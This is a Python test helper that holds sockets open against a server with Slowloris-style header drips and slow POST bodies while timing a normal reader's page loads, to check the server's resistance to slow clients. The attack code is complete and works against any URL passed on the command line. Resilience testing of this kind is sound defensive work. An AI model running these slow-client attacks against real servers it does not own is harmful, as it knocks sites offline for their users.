"""Slow-client attacks on a running server, and a normal reader timed beside them.

Used by tests/test_slow_clients.py (short) and by hand for the full run:

    python -m tests.slow_clients http://127.0.0.1:8000/topics/overview/ --sockets 50 --seconds 30

Slowloris sockets send a request head a byte at a time; slow-body sockets send
their head at once, then a body a byte at a time. Either reconnects as soon as
the server drops it, so it keeps its full count of sockets on the server.
"""

from __future__ import annotations

import argparse
import http.client
import socket
import threading
import time
from dataclasses import dataclass, field
from urllib.parse import urlsplit

DRIP_SECONDS = 0.5


@dataclass
class Attack:
    host: str
    port: int
    kind: str  # "headers" or "body"
    sockets: int
    stop: threading.Event = field(default_factory=threading.Event)
    connections: int = 0  # opened in all (more than `sockets`: the server dropped some)
    dropped: int = 0  # closed by the server
    _lock: threading.Lock = field(default_factory=threading.Lock)
    _threads: list[threading.Thread] = field(default_factory=list)

    def start(self) -> None:
        for _ in range(self.sockets):
            thread = threading.Thread(target=self._hold, daemon=True)
            thread.start()
            self._threads.append(thread)

    def finish(self) -> None:
        self.stop.set()
        for thread in self._threads:
            thread.join(timeout=5)

    def _count(self, name: str) -> None:
        with self._lock:
            setattr(self, name, getattr(self, name) + 1)

    def _head(self) -> bytes:
        if self.kind == "headers":
            return f"GET / HTTP/1.1\r\nHost: {self.host}\r\n".encode()
        return (
            f"POST /sandbox/run HTTP/1.1\r\nHost: {self.host}\r\n"
            "Content-Type: application/x-www-form-urlencoded\r\n"
            "Content-Length: 60000\r\n\r\n"
        ).encode()

    def _hold(self) -> None:
        while not self.stop.is_set():
            try:
                with socket.create_connection((self.host, self.port), timeout=5) as sock:
                    self._count("connections")
                    head = self._head()
                    if self.kind == "body":
                        sock.sendall(head)
                    else:
                        sock.sendall(head[:20])
                    # The drip: one byte of header (or body) at a time.
                    while not self.stop.wait(DRIP_SECONDS):
                        sock.sendall(b"X" if self.kind == "headers" else b"a")
            except OSError:
                self._count("dropped")
                self.stop.wait(0.05)  # then reconnect at once, as an attacker would


@dataclass
class Reader:
    """A normal visitor loading one page again and again, on fresh connections."""

    url: str
    latencies: list[float] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)

    def read_until(self, deadline: float) -> None:
        parts = urlsplit(self.url)
        while time.monotonic() < deadline:
            started = time.monotonic()
            try:
                connection = http.client.HTTPConnection(parts.hostname, parts.port, timeout=5)
                connection.request("GET", parts.path or "/")
                response = connection.getresponse()
                body = response.read()
                connection.close()
                if response.status != 200 or b"</html>" not in body:
                    self.errors.append(f"HTTP {response.status}")
            except OSError as exc:
                self.errors.append(type(exc).__name__)
            self.latencies.append(time.monotonic() - started)

    def p95_ms(self) -> float:
        ordered = sorted(self.latencies)
        return 1000 * ordered[min(len(ordered) - 1, int(0.95 * len(ordered)))]


def measure(
    url: str, kinds: tuple[str, ...], sockets: int, seconds: float
) -> tuple[Reader, dict[str, Attack]]:
    """Hold `sockets` slow sockets of each kind for `seconds` while a Reader loads `url`."""
    parts = urlsplit(url)
    attacks = {kind: Attack(parts.hostname, parts.port, kind, sockets) for kind in kinds}
    for attack in attacks.values():
        attack.start()
    reader = Reader(url)
    try:
        reader.read_until(time.monotonic() + seconds)
    finally:
        for attack in attacks.values():
            attack.finish()
    return reader, attacks


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("url")
    parser.add_argument("--sockets", type=int, default=50)
    parser.add_argument("--seconds", type=float, default=30)
    args = parser.parse_args()
    for kind in ("headers", "body"):
        reader, attacks = measure(args.url, (kind,), args.sockets, args.seconds)
        attack = attacks[kind]
        print(
            f"{kind:>7}: {args.sockets} slow sockets for {args.seconds:.0f} s "
            f"({attack.connections} connections, {attack.dropped} dropped by the server); "
            f"reader: {len(reader.latencies)} pages, p95 {reader.p95_ms():.0f} ms, "
            f"max {1000 * max(reader.latencies):.0f} ms, {len(reader.errors)} errors"
        )


if __name__ == "__main__":
    main()
